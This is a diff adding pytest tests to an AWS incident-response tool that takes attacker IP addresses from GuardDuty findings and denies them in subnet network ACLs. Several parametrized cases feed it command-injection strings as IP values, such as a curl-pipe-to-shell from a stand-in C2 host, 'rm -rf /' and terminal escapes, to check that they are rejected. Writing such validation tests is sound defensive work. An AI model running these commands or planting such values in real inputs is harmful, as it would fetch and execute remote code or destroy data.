@@ -29,6 +29,8 @@ from ec2ir.aws import Aws
 from ec2ir.engine import Engine, RunReport
 from ec2ir.evidence import default_bucket
 from ec2ir.handlers import custom_resource, guardduty
+from ec2ir.handlers import finding_addresses as finding_addresses_module
+from ec2ir.handlers.finding_addresses import finding_addresses, remote_addresses
 from ec2ir.models import EvidenceRef, HoldStatus, InstanceResult
 from ec2ir.state import StateStore
 from tests.conftest import Fleet
@@ -1179,3 +1181,382 @@ def test_a_released_finding_without_a_recorded_count_is_not_contained_again(
     assert outcome["outcome"] == "ignored"
     assert "count at containment is not on record" in outcome["reason"]
     assert StateStore(aws, TABLE).get(target) == released
+
+
+# -- GuardDuty: the attacker's addresses denied at the subnet edge (issue 19) ----------------------------
+
+ATTACKER = "185.220.101.45"  # the SSH brute-forcer of ec2_ssh_bruteforce_inbound.json
+C2_SERVER = "45.155.205.99"  # the C&C server of ec2_c2_outbound_high.json
+ATTACKER_V6 = "2a0b:f4c2:2::45"
+SCANNERS = ("91.240.118.172", "194.26.29.113")
+
+
+def remote_ip(v4: Any = None, v6: Any = None, asn: str = "64500") -> dict[str, Any]:
+    """A ``remoteIpDetails`` as GuardDuty writes it."""
+    details: dict[str, Any] = {
+        "organization": {"asn": asn, "asnOrg": "EXAMPLE-NET", "isp": "Example Net", "org": "Example Net"},
+        "country": {"countryName": "Exampleland"},
+        "city": {"cityName": "Example City"},
+        "geoLocation": {"lat": 0.0, "lon": 0.0},
+    }
+    if v4 is not None:
+        details["ipAddressV4"] = v4
+    if v6 is not None:
+        details["ipAddressV6"] = v6
+    return details
+
+
+def probed(instance_id: str | None = None, *addresses: str) -> dict[str, Any]:
+    """Recon:EC2/PortProbeUnprotectedPort, its fixture's probers replaced by ``addresses``."""
+    event = finding("ec2_portprobe_low.json", instance_id)
+    event["detail"]["service"]["action"]["portProbeAction"]["portProbeDetails"] = [
+        {"localPortDetails": {"port": port, "portName": "Unknown"}, "remoteIpDetails": remote_ip(address)}
+        for port, address in zip((22, 3389, 5432), addresses, strict=False)
+    ]
+    return event
+
+
+def over_ipv6(instance_id: str | None = None) -> dict[str, Any]:
+    """The SSH brute force, over IPv6: GuardDuty then names the attacker in ``ipAddressV6``."""
+    event = finding("ec2_ssh_bruteforce_inbound.json", instance_id)
+    event["detail"]["service"]["action"]["networkConnectionAction"]["remoteIpDetails"] = remote_ip(
+        v6=ATTACKER_V6
+    )
+    return event
+
+
+# -- extraction alone (no emulator) --
+
+
+def test_remote_addresses_come_from_every_place_a_finding_names_one() -> None:
+    event = finding("ec2_c2_outbound_high.json")
+    detail = event["detail"]
+    detail["service"]["action"] |= {
+        "awsApiCallAction": {"api": "DescribeInstances", "remoteIpDetails": remote_ip("203.0.114.9")},
+        "kubernetesApiCallAction": {
+            "remoteIpDetails": remote_ip(v6="2001:4860:4860::8888"),
+            "sourceIps": ["9.9.9.9"],  # the caller and every proxy between: never taken
+        },
+        "rdsLoginAttemptAction": {"remoteIpDetails": remote_ip("8.8.4.4")},
+        "portProbeAction": {
+            "portProbeDetails": [
+                {"remoteIpDetails": remote_ip(SCANNERS[0])},
+                {"remoteIpDetails": remote_ip(C2_SERVER)},  # named twice: blocked once
+                {"localIpDetails": {"ipAddressV4": "1.1.1.1"}, "remoteIpDetails": remote_ip(v6=ATTACKER_V6)},
+            ]
+        },
+    }
+    detail["service"]["action"]["networkConnectionAction"]["remoteIpDetails"]["ipAddressV6"] = (
+        "2606:4700::1111"
+    )
+    detail["service"]["action"]["networkConnectionAction"]["localIpDetails"] = {"ipAddressV4": "1.0.0.1"}
+    detail["service"]["detection"] = {"sequence": {"endpoints": [{"ip": "8.8.8.8"}]}}  # never taken
+
+    expected = [
+        C2_SERVER,
+        "2606:4700::1111",
+        "203.0.114.9",
+        "2001:4860:4860::8888",
+        "8.8.4.4",
+        SCANNERS[0],
+        ATTACKER_V6,
+    ]
+    assert remote_addresses(detail) == expected
+    assert remote_addresses(event) == expected  # the EventBridge event itself
+
+    def pascal(node: Any) -> Any:  # boto3's GetFindings shape
+        if isinstance(node, dict):
+            return {key[:1].upper() + key[1:]: pascal(value) for key, value in node.items()}
+        return [pascal(item) for item in node] if isinstance(node, list) else node
+
+    assert remote_addresses(pascal(detail)) == expected
+    found = finding_addresses(detail)
+    assert found.cidrs[:2] == (f"{C2_SERVER}/32", "2606:4700::1111/128")
+    assert found.addresses[0].where == "networkConnectionAction (OUTBOUND)"
+    assert found.addresses[0].organization == "AS64511 EXAMPLE-BULLETPROOF, Example Bulletproof Hosting"
+    assert found.notes == ()
+
+
+@pytest.mark.parametrize(
+    ("field", "value", "why"),
+    [
+        ("ipAddressV4", "$(curl -s http://c2.example/x|sh)", "not an IP address"),
+        ("ipAddressV4", "185.220.101.45; rm -rf /", "not an IP address"),
+        ("ipAddressV4", "1" * 5000, "too long to be an IP address"),
+        ("ipAddressV4", ["185.220.101.45"], "not a string"),
+        ("ipAddressV4", {"ip": "185.220.101.45"}, "not a string"),
+        ("ipAddressV4", 3118229805, "not a string"),  # 185.220.101.45 as an integer
+        ("ipAddressV4", True, "not a string"),
+        ("ipAddressV4", " 185.220.101.45", "not an IP address"),
+        ("ipAddressV4", "185.220.101.045", "not an IP address"),  # leading zeros: octal to some
+        ("ipAddressV4", "185.220.101.45/32", "not an IP address"),
+        ("ipAddressV4", "0.0.0.0/0", "not an IP address"),
+        ("ipAddressV4", "\x1b]0;pwned\x07185.220.101.45", "not an IP address"),
+        ("ipAddressV4", "10.0.1.30", "private"),
+        ("ipAddressV4", "127.0.0.1", "loopback"),
+        ("ipAddressV4", "169.254.169.254", "link-local"),  # IMDS
+        ("ipAddressV4", "224.0.0.251", "multicast"),
+        ("ipAddressV4", "0.0.0.0", "unspecified"),
+        ("ipAddressV4", "240.0.0.1", "reserved"),
+        ("ipAddressV4", "255.255.255.255", "reserved"),
+        ("ipAddressV4", "100.64.0.10", "not a global address"),  # carrier-grade NAT
+        ("ipAddressV4", "192.0.2.77", "not a global address"),  # documentation
+        ("ipAddressV4", ATTACKER_V6, "an IPv6 address in the IPv4 field"),
+        ("ipAddressV6", ATTACKER, "an IPv4 address in the IPv6 field"),
+        ("ipAddressV6", "2a0b:f4c2:2::45%eth0", "scoped"),
+        ("ipAddressV6", "::1", "loopback"),
+        ("ipAddressV6", "fd00:ec2::254", "private"),  # the IPv6 IMDS
+        ("ipAddressV6", "::ffff:185.220.101.45", "reserved"),  # IPv4-mapped
+        ("ipAddressV6", "2001:db8::1", "not a global address"),
+        ("ipAddressV6", "ff02::1", "multicast"),
+        ("ipAddressV4", "3.91.12.30", "the instance's own address"),  # its public IP, by the finding
+    ],
+)
+def test_remote_addresses_leave_out_everything_but_a_single_global_address(
+    field: str, value: Any, why: str
+) -> None:
+    event = finding("ec2_ssh_bruteforce_inbound.json")
+    event["detail"]["service"]["action"]["networkConnectionAction"]["remoteIpDetails"] = {field: value}
+
+    found = finding_addresses(event)
+
+    assert found.addresses == ()
+    (note,) = found.notes
+    assert note.startswith("left out service.action.networkConnectionAction.remoteIpDetails.")
+    assert why in note
+    assert note.isprintable() and len(note) < 300, note
+
+
+@pytest.mark.parametrize(
+    "action",
+    [
+        None,
+        [],
+        "NETWORK_CONNECTION",
+        {"networkConnectionAction": []},
+        {"networkConnectionAction": {"remoteIpDetails": "185.220.101.45"}},
+        {"portProbeAction": {"portProbeDetails": {"remoteIpDetails": remote_ip(ATTACKER)}}},
+        {"portProbeAction": {"portProbeDetails": [None, 7, "x", {"remoteIpDetails": None}]}},
+    ],
+)
+def test_remote_addresses_of_a_malformed_action_are_none(action: Any) -> None:
+    event = finding("ec2_c2_outbound_high.json")
+    event["detail"]["service"]["action"] = action
+    found = finding_addresses(event)
+    assert found.addresses == ()
+    assert all(note.isprintable() for note in found.notes)
+    assert guardduty.parse_finding(event).remote == found
+
+
+def test_remote_addresses_are_deduplicated_and_capped() -> None:
+    many = [f"91.240.{n // 200}.{n % 200 + 1}" for n in range(30)]
+    event = probed(None)
+    event["detail"]["service"]["action"]["portProbeAction"]["portProbeDetails"] = [
+        {"remoteIpDetails": remote_ip(address)} for address in [many[0], *many, many[1]]
+    ]
+    found = finding_addresses(event)
+    assert remote_addresses(event) == many[: finding_addresses_module.MAX_ADDRESSES]
+    assert found.notes == (
+        f"20 more remote address(es) left out: at most {len(found.addresses)} are blocked a finding",
+    )
+
+
+@pytest.mark.parametrize(
+    ("raw", "threshold"),
+    [(None, None), ("", None), ("  ", None), ("7", 7.0), ("7.5", 7.5), ("10", 10.0), ("1", 1.0)],
+)
+def test_the_block_severity_is_read_from_the_environment(raw: str | None, threshold: float | None) -> None:
+    assert guardduty.block_setting_from(raw) == guardduty.BlockSetting(threshold)
+
+
+@pytest.mark.parametrize("raw", ["high", "0", "11", "7.55", "-7", "nan", "inf", "7,5", "1e1", "$(id)\x1b[2J"])
+def test_a_bad_block_severity_blocks_nothing_and_says_so(raw: str, caplog: pytest.LogCaptureFixture) -> None:
+    guardduty.block_setting_from.cache_clear()
+    with caplog.at_level("ERROR", logger="ec2ir.handlers.guardduty"):
+        setting = guardduty.block_setting_from(raw)
+        assert guardduty.block_setting_from(raw) is setting  # read once per execution environment
+    assert setting.threshold is None
+    assert "is not a GuardDuty severity" in setting.problem and setting.problem.isprintable()
+    assert [r.getMessage() for r in caplog.records] == [setting.problem]  # one log line
+    c2 = guardduty.parse_finding(finding("ec2_c2_outbound_high.json"))
+    assert setting.applies(c2) == (False, setting.problem)
+    said = guardduty.block_lines(c2, setting, requested=False, blocks=None, notes=[])
+    assert said[:2] == [
+        f"Remote addresses named by the finding, not blocked because {setting.problem}:",
+        f"  {C2_SERVER}/32: networkConnectionAction (OUTBOUND), AS64511 EXAMPLE-BULLETPROOF, "
+        "Example Bulletproof Hosting",
+    ]
+
+
+def test_guardduty_reads_the_block_severity_from_the_functions_environment(
+    monkeypatch: pytest.MonkeyPatch,
+) -> None:
+    seen: dict[str, Any] = {}
+    monkeypatch.setattr(guardduty, "handle", lambda event, factory, **kwargs: seen.update(kwargs) or {})
+    monkeypatch.setenv(guardduty.BLOCK_SEVERITY_ENV, "7")
+    guardduty.handler(finding("ec2_c2_outbound_high.json"), LambdaRuntimeContext())
+    assert seen["block"] == guardduty.BlockSetting(7.0)
+    monkeypatch.delenv(guardduty.BLOCK_SEVERITY_ENV)
+    guardduty.handler(finding("ec2_c2_outbound_high.json"), LambdaRuntimeContext())
+    assert seen["block"] == guardduty.BLOCK_OFF
+
+
+# -- through the handler, on the emulator --
+
+
+@pytest.fixture
+def suspect(fleet: Fleet) -> dict[str, Any]:
+    """One instance in one VPC, and its subnet's network ACL as it was."""
+    vpc = fleet.vpc(11)
+    instance = fleet.instance(vpc, [fleet.group(vpc, "web")])
+    subnet = fleet.subnets[vpc]
+    return {"vpc": vpc, "instance": instance, "subnet": subnet, "before": acl_entries(fleet, subnet)}
+
+
+def acl_entries(fleet: Fleet, subnet: str) -> list[dict[str, Any]]:
+    """The entries of the network ACL ``subnet`` is associated with."""
+    (acl,) = fleet.ec2.describe_network_acls(Filters=[{"Name": "association.subnet-id", "Values": [subnet]}])[
+        "NetworkAcls"
+    ]
+    return list(acl["Entries"])
+
+
+def denied(fleet: Fleet, subnet: str) -> set[tuple[bool, str]]:
+    """(egress, CIDR) of every deny entry that takes effect: numbered before any allow entry of its
+    direction (the ACL's own 32767 "*" rules are not counted)."""
+    entries = acl_entries(fleet, subnet)
+    first_allow = {
+        egress: min(
+            [e["RuleNumber"] for e in entries if e["Egress"] is egress and e["RuleAction"] == "allow"]
+            or [32767]
+        )
+        for egress in (False, True)
+    }
+    return {
+        (e["Egress"], e.get("CidrBlock") or e.get("Ipv6CidrBlock", ""))
+        for e in entries
+        if e["RuleAction"] == "deny" and e["RuleNumber"] < first_allow[e["Egress"]] and e["Protocol"] == "-1"
+    }
+
+
+@pytest.mark.parametrize(
+    ("make", "blocked", "left_out"),
+    [
+        (lambda i: finding("ec2_ssh_bruteforce_inbound.json", i), [f"{ATTACKER}/32"], []),
+        (lambda i: finding("ec2_c2_outbound_high.json", i), [f"{C2_SERVER}/32"], []),
+        (
+            lambda i: probed(i, SCANNERS[0], "10.11.1.99", SCANNERS[1]),
+            [f"{SCANNERS[0]}/32", f"{SCANNERS[1]}/32"],
+            ['portProbeDetails[1].remoteIpDetails.ipAddressV4 "10.11.1.99": not a global address (private)'],
+        ),
+        (over_ipv6, [f"{ATTACKER_V6}/128"], []),
+    ],
+    ids=["ssh-brute-force-inbound", "c2-outbound", "port-probe-list", "ssh-brute-force-ipv6"],
+)
+def test_guardduty_denies_the_findings_remote_addresses_both_ways_at_the_subnet_edge(
+    aws: Aws,
+    fleet: Fleet,
+    suspect: dict[str, Any],
+    make: Callable[[str], dict[str, Any]],
+    blocked: list[str],
+    left_out: list[str],
+) -> None:
+    # Waits on the engine's network ACL step (ec2ir.nacl): the handler's side is the outcome's
+    # block_ips and the notification; the entries are the engine's.
+    topic, read = inbox(aws)
+    event = make(suspect["instance"])
+    outcome = contain(aws, event, threshold=2.0, topic_arn=topic, block=guardduty.BlockSetting(2.0))
+
+    assert outcome["outcome"] == "contained", outcome
+    assert outcome["block_ips"] == blocked
+    (notification,) = read()
+    message = notification["Message"]
+    assert "Remote addresses (BlockRemoteIpSeverity 2), denied both ways in the network ACLs" in message
+    for note in left_out:
+        assert f"left out service.action.portProbeAction.{note}" in message
+    assert all(line.isprintable() for line in message.splitlines())
+    # What the issue asks: each address denied, in and out, in the instance's subnet's ACL.
+    assert denied(fleet, suspect["subnet"]) == {
+        (egress, cidr) for cidr in blocked for egress in (False, True)
+    }
+    for cidr in blocked:
+        assert f"  blocked {cidr}: " in message
+    # The case's release takes them out again, exactly.
+    assert not engine_factory(aws)().release([suspect["instance"]], outcome["case"]).failed
+    assert acl_entries(fleet, suspect["subnet"]) == suspect["before"]
+
+
+@pytest.mark.parametrize(
+    ("setting", "why"),
+    [
+        ("9", "not blocked because severity 8 is below BlockRemoteIpSeverity 9:"),
+        ("", "not blocked because BlockRemoteIpSeverity is empty (blocking is off):"),
+    ],
+    ids=["below-the-block-severity", "off"],  # a bad setting is off too, with its problem as the why
+)
+def test_guardduty_blocks_nothing_below_the_block_severity_or_when_off(
+    aws: Aws, fleet: Fleet, suspect: dict[str, Any], setting: str, why: str
+) -> None:
+    topic, read = inbox(aws)
+    block = guardduty.block_setting_from(setting)  # as the function reads its environment
+    outcome = contain(
+        aws, finding("ec2_c2_outbound_high.json", suspect["instance"]), topic_arn=topic, block=block
+    )
+
+    assert outcome["outcome"] == "contained", outcome  # containment is never held up
+    assert "block_ips" not in outcome
+    assert acl_entries(fleet, suspect["subnet"]) == suspect["before"]
+    (notification,) = read()
+    assert why in notification["Message"]
+    assert f"  {C2_SERVER}/32: networkConnectionAction (OUTBOUND), AS64511" in notification["Message"]
+
+
+def test_guardduty_never_blocks_garbage_from_a_forged_finding(
+    aws: Aws, fleet: Fleet, suspect: dict[str, Any]
+) -> None:
+    event = finding("ec2_c2_outbound_high.json", suspect["instance"])
+    action = event["detail"]["service"]["action"]
+    action["networkConnectionAction"]["remoteIpDetails"]["ipAddressV4"] = "$(curl -s c2.example|sh)\x1b[2J"
+    action["portProbeAction"] = {
+        "portProbeDetails": [
+            {"remoteIpDetails": remote_ip("9" * 100_000)},
+            {"remoteIpDetails": remote_ip(["185.220.101.45", "0.0.0.0/0"])},
+            {"remoteIpDetails": remote_ip(v6="::/0")},
+            {"remoteIpDetails": remote_ip("10.11.1.1")},  # the VPC's own
+        ]
+    }
+    topic, read = inbox(aws)
+
+    outcome = contain(aws, event, topic_arn=topic, block=guardduty.BlockSetting(1.0))
+
+    assert outcome["outcome"] == "contained", outcome
+    assert "block_ips" not in outcome
+    assert acl_entries(fleet, suspect["subnet"]) == suspect["before"]
+    (notification,) = read()
+    message = notification["Message"]
+    assert "Remote addresses: none the finding names can be blocked:" in message
+    assert "(100000 characters): too long to be an IP address" in message and "\\x1b[2J" in message
+    assert all(line.isprintable() and len(line) < 400 for line in message.splitlines())
+
+
+def test_a_finding_sent_again_with_a_new_address_blocks_it_and_says_so(
+    aws: Aws, fleet: Fleet, suspect: dict[str, Any]
+) -> None:
+    # Waits on the engine's network ACL step (ec2ir.nacl), as the test above.
+    topic, read = inbox(aws)
+    block = guardduty.BlockSetting(8.0)
+    first = finding("ec2_c2_outbound_high.json", suspect["instance"])
+    assert contain(aws, first, topic_arn=topic, block=block)["outcome"] == "contained"
+    assert contain(aws, copy.deepcopy(first), topic_arn=topic, block=block)["outcome"] == "already-held"
+    assert len(read()) == 1  # the same finding again changes nothing, and says nothing
+
+    update = finding("ec2_c2_outbound_high.json", suspect["instance"])
+    update["detail"]["service"]["action"]["networkConnectionAction"]["remoteIpDetails"] = remote_ip(ATTACKER)
+    outcome = contain(aws, update, topic_arn=topic, block=block)
+
+    assert outcome["outcome"] == "already-held" and outcome["block_ips"] == [f"{ATTACKER}/32"]
+    both = {(egress, f"{address}/32") for address in (C2_SERVER, ATTACKER) for egress in (False, True)}
+    assert denied(fleet, suspect["subnet"]) == both
+    (notification,) = read()
+    assert notification["Subject"] == f"ec2ir blocked addresses for {suspect['instance']} (GuardDuty 8)"
+    assert f"  blocked {ATTACKER}/32: networkConnectionAction" in notification["Message"]
